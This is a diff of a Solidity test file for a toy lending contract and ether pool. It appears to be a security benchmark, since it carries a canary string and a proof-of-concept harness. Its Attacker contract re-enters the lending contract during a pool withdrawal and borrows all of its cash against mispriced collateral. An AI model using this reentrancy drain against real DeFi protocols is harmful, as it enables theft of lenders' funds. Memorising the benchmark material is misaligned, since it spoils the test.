@@ -1,76 +1,50 @@
 // SPDX-License-Identifier: MIT
 pragma solidity 0.8.19;
 
-import "./BramblingCredit.sol";
+import "./Credit.sol";
 
 // assay-canary-129477d9-4117-442e-8697-8b7698306460
 
 interface Vm {
     function warp(uint256 time) external;
     function prank(address sender) external;
+    function startPrank(address sender) external;
+    function stopPrank() external;
     function deal(address to, uint256 amount) external;
     function expectRevert() external;
+    function expectRevert(bytes4 reason) external;
     function expectRevert(bytes calldata reason) external;
 }
 
-contract Token is IToken {
-    address private maker = msg.sender;
-    bool private asleep;
-
-    /// While it sleeps, it says no.
-    function sleep(bool asleep_) external {
-        require(msg.sender == maker, "maker only");
-        asleep = asleep_;
-    }
-
+contract Staked is ERC20("Staked ether", "SETH") {
     address private minter = msg.sender;
-    mapping(address => uint256) public balanceOf;
-    mapping(address => mapping(address => uint256)) public allowance;
 
     function mint(address to, uint256 amount) external {
         require(msg.sender == minter, "minter only");
-        balanceOf[to] += amount;
-    }
-
-    function approve(address spender, uint256 amount) external returns (bool) {
-        allowance[msg.sender][spender] = amount;
-        return true;
-    }
-
-    function transfer(address to, uint256 amount) external returns (bool) {
-        if (asleep) return false;
-        balanceOf[msg.sender] -= amount;
-        balanceOf[to] += amount;
-        return true;
-    }
-
-    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
-        if (asleep) return false;
-        allowance[from][msg.sender] -= amount;
-        balanceOf[from] -= amount;
-        balanceOf[to] += amount;
-        return true;
+        _mint(to, amount);
     }
 }
 
 /// Comes back while it is paid, and insists on being told off.
-contract Swimmer {
-    EtherPool internal pool;
+contract Returner {
+    EthPool internal pool;
     bytes internal again;
 
-    constructor(EtherPool pool_) payable {
-        pool = pool_;
-        pool_.join{value: msg.value}(0);
+    constructor(EthPool p, Staked s) payable {
+        pool = p;
+        s.approve(address(p), type(uint256).max);
     }
 
     receive() external payable {
         (bool ok, bytes memory why) = address(pool).call(again);
-        require(!ok && keccak256(why) == keccak256(abi.encodeWithSignature("Error(string)", "pool: at work")), "let through");
+        bytes memory told = abi.encodeWithSignature("Error(string)", "ReentrancyGuard: reentrant call");
+        require(!ok && keccak256(why) == keccak256(told), "let through");
     }
 
-    function leave(bytes calldata again_) external {
+    function go(bytes calldata again_) external {
         again = again_;
-        pool.leave(0.1 ether);
+        pool.add{value: 1 ether}(1 ether);
+        pool.remove(1 ether, 0, 0);
     }
 }
 
@@ -81,153 +55,255 @@ contract Proof {
     address internal constant BORROWER = address(0xB044);
     uint256 internal constant START = 1_689_900_000;
 
-    Token internal staked;
-    EtherPool internal pool;
-    BramblingCredit internal credit;
+    Staked internal staked;
+    EthPool internal pool;
+    LpOracle internal oracle;
+    Credit internal credit;
     Attacker internal thief;
 
     function setUp() public {
         vm.warp(START);
-        staked = new Token();
-        pool = new EtherPool(WRAPPED, address(staked));
-        credit = new BramblingCredit(staked, pool, new LpFeed());
+        staked = new Staked();
+        pool = new EthPool(WRAPPED, address(staked));
+        oracle = new LpOracle();
+        oracle.setPool(pool, true);
+        credit = new Credit(staked, pool, oracle);
+        credit.setCap(10_000 ether);
 
-        staked.mint(LENDER, 4_000 ether);
-        vm.prank(LENDER);
+        staked.mint(LENDER, 4_100 ether);
+        vm.startPrank(LENDER);
         staked.approve(address(credit), type(uint256).max);
-        vm.prank(LENDER);
         credit.lend(4_000 ether);
+        vm.stopPrank();
 
-        vm.deal(BORROWER, 600 ether);
-        staked.mint(BORROWER, 700 ether);
-        vm.prank(BORROWER);
+        vm.deal(BORROWER, 700 ether);
+        staked.mint(BORROWER, 800 ether);
+        vm.startPrank(BORROWER);
         staked.approve(address(pool), type(uint256).max);
-        vm.prank(BORROWER);
-        pool.join{value: 500 ether}(500 ether);
+        staked.approve(address(credit), type(uint256).max);
+        pool.approve(address(credit), type(uint256).max);
+        pool.add{value: 500 ether}(500 ether);
+        vm.stopPrank();
 
         thief = new Attacker(pool, credit, staked);
         vm.deal(address(thief), 20_000 ether);
         staked.mint(address(thief), 20_000 ether);
     }
 
+    /// The borrower pledges shares and borrows.
+    function draw(uint256 s, uint256 a) internal {
+        vm.startPrank(BORROWER);
+        credit.pledge(s);
+        credit.borrow(a);
+        vm.stopPrank();
+    }
+
     function test_Regular() public {
-        vm.prank(BORROWER);
-        require(pool.exchange(1, 100 ether) == 99.96 ether, "exchanged");
-        require(BORROWER.balance == 199.96 ether, "ether");
+        vm.startPrank(BORROWER);
+        require(pool.swap(1, 100 ether, 99 ether) == 99.96 ether, "swapped");
+        require(BORROWER.balance == 299.96 ether, "ether");
+        require(pool.swap{value: 1 ether}(0, 1 ether, 0) == 0.9996 ether, "and back");
+        vm.stopPrank();
         pool.collect();
         require(staked.balanceOf(address(this)) == 0.02 ether, "keeper");
 
-        vm.prank(BORROWER);
-        pool.trust(address(credit), true);
-        vm.prank(BORROWER);
-        credit.pledge(100 ether);
-        vm.prank(BORROWER);
-        (bool ok, ) = address(credit).call(abi.encodeCall(BramblingCredit.borrow, (80 ether)));
-        require(!ok, "the fee counts");
-        vm.prank(BORROWER);
-        credit.borrow(70 ether);
-        vm.prank(BORROWER);
-        (ok, ) = address(credit).call(abi.encodeCall(BramblingCredit.unpledge, (50 ether)));
-        require(!ok, "bound");
+        draw(100 ether, 70 ether);
+        require(credit.debtOf(BORROWER) == 70 ether && credit.cash() == 3_930 ether, "borrowed");
+        vm.warp(START + 20 days);
+        vm.startPrank(BORROWER);
+        credit.roll();
+        require(credit.repay(BORROWER, 20 ether) == 20 ether, "a part");
+        credit.unpledge(10 ether);
+        vm.stopPrank();
+        require(credit.reserves() > 0 && credit.assets() > 4_000 ether, "interest");
 
-        vm.warp(START + 31 days);
-        staked.mint(LENDER, 70.35 ether);
-        vm.prank(LENDER);
-        credit.takeOver(BORROWER);
-        require(pool.balanceOf(LENDER) > 73.8 ether && pool.balanceOf(LENDER) < 73.87 ether, "shares");
-        vm.prank(LENDER);
-        pool.leave(10 ether);
-        require(LENDER.balance > 3.9 ether, "left");
-        vm.prank(BORROWER);
-        credit.unpledge(26 ether);
-        require(staked.balanceOf(address(credit)) == 4_000.35 ether, "fee");
+        vm.warp(START + 51 days);
+        credit.accrue();
+        uint256 d = credit.debtOf(BORROWER);
+        require(d > 50 ether && d < 50.2 ether, "the rest");
+        vm.startPrank(LENDER);
+        uint256 s = credit.seize(BORROWER, d + 1 ether);
+        require(s > 52.5 ether && s < 52.8 ether && pool.balanceOf(LENDER) == s, "shares");
+        require(credit.debtOf(BORROWER) == 0, "nothing owed");
+        pool.remove(10 ether, 4 ether, 5 ether);
+        require(LENDER.balance > 4 ether, "removed");
+        s = credit.balanceOf(LENDER);
+        require(credit.unlend(s / 2) > 2_000 ether, "with interest");
+        vm.stopPrank();
+        uint256 r = credit.reserves();
+        credit.skim(r);
+        require(staked.balanceOf(address(this)) == 0.02 ether + r, "skimmed");
 
-        vm.prank(LENDER);
-        credit.unlend(1 ether);
+        // a debt that its shares do not pay any more
+        vm.prank(BORROWER);
+        credit.unpledge(10 ether);
+        vm.prank(BORROWER);
+        credit.borrow(15 ether);
+        vm.warp(START + 51 days + 36500 days);
+        vm.startPrank(LENDER);
+        credit.seize(BORROWER, 10 ether);
+        credit.seize(BORROWER, 100 ether);
+        vm.stopPrank();
+        (uint256 left, , , ) = credit.lines(BORROWER);
+        require(left == 0 && credit.debtOf(BORROWER) > 1 ether, "all is seized");
+        r = credit.reserves();
+        credit.writeOff(BORROWER);
+        require(credit.debtOf(BORROWER) == 0 && credit.reserves() < r, "written off");
 
-        vm.prank(BORROWER);
-        credit.pledge(10 ether);
-        vm.prank(BORROWER);
-        credit.borrow(1 ether);
-        vm.prank(BORROWER);
-        staked.approve(address(credit), 0.5 ether);
-        vm.prank(BORROWER);
-        credit.repay(0.5 ether);
+        credit.approve(LENDER, 1);
+        credit.increaseAllowance(LENDER, 1);
+        credit.decreaseAllowance(LENDER, 2);
+        vm.startPrank(LENDER);
+        credit.transfer(BORROWER, 2);
+        credit.approve(address(this), 1);
+        vm.stopPrank();
+        credit.transferFrom(LENDER, BORROWER, 1);
+        require(credit.balanceOf(BORROWER) == 3, "shares move");
+        credit.pause();
+        credit.unpause();
+        oracle.setPool(pool, false);
+        oracle.transferOwnership(LENDER);
+        credit.transferOwnership(LENDER);
+        vm.startPrank(LENDER);
+        oracle.acceptOwnership();
+        credit.acceptOwnership();
+        oracle.renounceOwnership();
+        credit.renounceOwnership();
+        vm.stopPrank();
     }
 
     // What is refused, each from the state after setUp().
 
-    /// The next call is made by who, and reverts.
-    function refuses(address who) internal {
-        vm.prank(who);
-        vm.expectRevert();
-    }
-
-    /// The next call is made by who, and reverts for this reason.
-    function refuses(address who, bytes memory why) internal {
+    function refuses(address who, bytes4 why) internal {
         vm.prank(who);
         vm.expectRevert(why);
     }
 
-    /// Shares are moved by their owner, or by who is trusted.
     function test_RefusesStrangers() public {
-        refuses(LENDER, "pool: not trusted");
-        pool.moveShares(BORROWER, LENDER, 1);
+        vm.startPrank(LENDER);
+        bytes memory why = "Ownable: caller is not the owner";
+        vm.expectRevert(why);
+        oracle.setPool(pool, false);
+        vm.expectRevert(why);
+        credit.setCap(0);
+        vm.expectRevert(why);
+        credit.skim(0);
+        vm.expectRevert(why);
+        credit.pause();
+        vm.stopPrank();
+        credit.pause();
+        why = "Pausable: paused";
+        vm.prank(LENDER);
+        vm.expectRevert("Ownable: caller is not the owner");
+        credit.unpause();
+        vm.prank(LENDER);
+        vm.expectRevert(why);
+        credit.lend(1 ether);
         vm.prank(BORROWER);
-        pool.moveShares(BORROWER, LENDER, 1);
-        require(pool.balanceOf(LENDER) == 1, "moved by the owner");
+        vm.expectRevert(why);
+        credit.borrow(1 ether);
     }
 
-    /// One at a time in the pool.
     function test_RefusesASecondVisit() public {
-        vm.deal(address(this), 1 ether);
-        Swimmer swimmer = new Swimmer{value: 1 ether}(pool);
-        swimmer.leave(abi.encodeCall(pool.join, (0)));
-        swimmer.leave(abi.encodeCall(pool.leave, (0)));
-        swimmer.leave(abi.encodeCall(pool.exchange, (1, 0)));
+        vm.deal(address(this), 3 ether);
+        Returner r = new Returner{value: 3 ether}(pool, staked);
+        staked.mint(address(r), 3 ether);
+        r.go(abi.encodeCall(pool.add, (0)));
+        r.go(abi.encodeCall(pool.remove, (0, 0, 0)));
+        r.go(abi.encodeCall(pool.swap, (1, 0, 0)));
     }
 
-    /// Ether that is not what is said, tokens and ether that do not move.
-    function test_RefusesPayments() public {
-        refuses(BORROWER, "pool: ether");
-        pool.exchange{value: 1 ether}(0, 2 ether);
-        refuses(BORROWER, "pool: ether");
-        pool.exchange{value: 1}(1, 1 ether);
+    function test_RefusesPoolCalls() public {
+        EthPool other = new EthPool(WRAPPED, address(staked));
+        vm.expectRevert(EthPool.Small.selector);
+        other.add(0);
+        refuses(BORROWER, EthPool.Small.selector);
+        pool.add(0);
+        refuses(BORROWER, EthPool.Slip.selector);
+        pool.add{value: 1 ether}(1 ether - 1);
+        refuses(BORROWER, EthPool.Slip.selector);
+        pool.remove(1 ether, 0.5 ether + 1, 0);
+        refuses(BORROWER, EthPool.Slip.selector);
+        pool.remove(1 ether, 0, 0.5 ether + 1);
+        refuses(BORROWER, EthPool.Value.selector);
+        pool.swap{value: 1 ether}(0, 2 ether, 0);
+        refuses(BORROWER, EthPool.Value.selector);
+        pool.swap{value: 1}(1, 1 ether, 0);
+        refuses(BORROWER, EthPool.Slip.selector);
+        pool.swap(1, 1 ether, 1 ether);
+        refuses(BORROWER, EthPool.Empty.selector);
+        pool.swap(1, 501 ether, 0);
         vm.prank(BORROWER);
-        pool.moveShares(BORROWER, address(staked), 1 ether);
-        refuses(address(staked), "pool: not sent");
-        pool.leave(1 ether);
-        staked.sleep(true);
-        refuses(BORROWER, "pool: not paid");
-        pool.join(1 ether);
-        refuses(BORROWER, "pool: not paid");
-        pool.exchange(1, 1 ether);
-        refuses(LENDER, "credit: not paid");
-        credit.lend(1);
-        refuses(LENDER, "credit: lent out");
-        credit.unlend(1);
+        pool.transfer(address(staked), 1 ether);
+        refuses(address(staked), EthPool.Send.selector);
+        pool.remove(1 ether, 0, 0);
     }
 
-    /// Lines that are not overdue, or are none, and loans that do not move.
-    function test_RefusesLines() public {
-        vm.prank(BORROWER);
-        pool.trust(address(credit), true);
-        vm.prank(BORROWER);
-        credit.pledge(100 ether);
-        vm.expectRevert("credit: not overdue");
-        credit.takeOver(BORROWER);
-        vm.prank(BORROWER);
-        credit.borrow(10 ether);
-        vm.expectRevert("credit: not overdue");
-        credit.takeOver(BORROWER);
-        staked.sleep(true);
-        refuses(BORROWER);
-        credit.borrow(1);
-        refuses(BORROWER, "credit: not paid");
-        credit.repay(1);
-        vm.warp(START + 31 days);
+    function test_RefusesPools() public {
+        EthPool other = new EthPool(address(staked), WRAPPED);
+        vm.expectRevert(Credit.BadPool.selector);
+        new Credit(staked, other, oracle);
+        vm.expectRevert(LpOracle.Unknown.selector);
+        oracle.valueOf(other, 1);
+    }
+
+    function test_RefusesLenders() public {
+        refuses(LENDER, Credit.Zero.selector);
+        credit.lend(0);
+        draw(100 ether, 70 ether);
+        uint256 s = credit.balanceOf(LENDER);
+        refuses(LENDER, Credit.Cash.selector);
+        credit.unlend(s);
         vm.expectRevert();
-        credit.takeOver(BORROWER);
+        credit.skim(1);
+    }
+
+    function test_RefusesLines() public {
+        draw(100 ether, 70 ether);
+        refuses(BORROWER, Credit.Limit.selector);
+        credit.borrow(10.1 ether);
+        refuses(BORROWER, Credit.Limit.selector);
+        credit.unpledge(20 ether);
+        refuses(BORROWER, Credit.Zero.selector);
+        credit.repay(BORROWER, 0);
+        refuses(LENDER, Credit.Sound.selector);
+        credit.seize(BORROWER, 1 ether);
+        refuses(LENDER, Credit.Backed.selector);
+        credit.writeOff(BORROWER);
+        refuses(LENDER, Credit.NoDebt.selector);
+        credit.writeOff(LENDER);
+        refuses(LENDER, Credit.NoDebt.selector);
+        credit.roll();
+        credit.setCap(71 ether);
+        refuses(BORROWER, Credit.OverCap.selector);
+        credit.borrow(2 ether);
+        refuses(LENDER, Credit.Small.selector);
+        credit.borrow(1 ether - 1);
+        vm.warp(START + 31 days);
+        refuses(BORROWER, Credit.Overdue.selector);
+        credit.borrow(0.1 ether);
+        refuses(BORROWER, Credit.Overdue.selector);
+        credit.roll();
+    }
+
+    /// Above the limit, by interest alone.
+    function test_RefusesToRollAboveTheLimit() public {
+        draw(100 ether, 79.99 ether);
+        vm.warp(START + 29 days);
+        refuses(BORROWER, Credit.Limit.selector);
+        credit.roll();
+    }
+
+    /// Above the threshold, though not overdue: all is lent out, and the rate is high.
+    function test_RefusesNoSeizureAboveTheThreshold() public {
+        draw(100 ether, 79.99 ether);
+        vm.startPrank(LENDER);
+        credit.unlend((credit.balanceOf(LENDER) * 98) / 100);
+        vm.warp(START + 29 days);
+        credit.accrue();
+        require(credit.debtOf(BORROWER) > 82 ether, "above the threshold");
+        require(credit.seize(BORROWER, 1 ether) > 1 ether, "seized");
+        vm.stopPrank();
     }
 
     function exploit() public {
@@ -243,7 +319,7 @@ contract Proof {
 
     /// What is there for the lenders: cash, and the pledged shares of all borrowers at their price.
     function lendersCover() public view returns (uint256) {
-        return staked.balanceOf(address(credit)) + (pool.balanceOf(address(credit)) * pool.sharePrice()) / 1e18;
+        return staked.balanceOf(address(credit)) + (pool.balanceOf(address(credit)) * pool.price()) / 1e18;
     }
 
     function target() public view returns (address) {
@@ -255,30 +331,30 @@ contract Proof {
     }
 }
 
-/// Borrows between the ether and the tokens of a leave.
+/// Borrows between the ether and the tokens of a removal.
 contract Attacker {
-    EtherPool internal pool;
-    BramblingCredit internal credit;
-    Token internal staked;
+    EthPool internal pool;
+    Credit internal credit;
+    Staked internal staked;
     bool internal leaving;
 
-    constructor(EtherPool pool_, BramblingCredit credit_, Token staked_) {
-        pool = pool_;
-        credit = credit_;
-        staked = staked_;
+    constructor(EthPool p, Credit c, Staked s) {
+        pool = p;
+        credit = c;
+        staked = s;
     }
 
     function run() external {
         staked.approve(address(pool), 20_000 ether);
-        uint256 shares = pool.join{value: 20_000 ether}(20_000 ether);
-        pool.trust(address(credit), true);
+        pool.approve(address(credit), 2_000 ether);
+        uint256 shares = pool.add{value: 20_000 ether}(20_000 ether);
         credit.pledge(2_000 ether);
         leaving = true;
-        pool.leave(shares - 2_000 ether);
+        pool.remove(shares - 2_000 ether, 0, 0);
         leaving = false;
     }
 
     receive() external payable {
-        if (leaving) credit.borrow(staked.balanceOf(address(credit)));
+        if (leaving) credit.borrow(credit.cash());
     }
 }
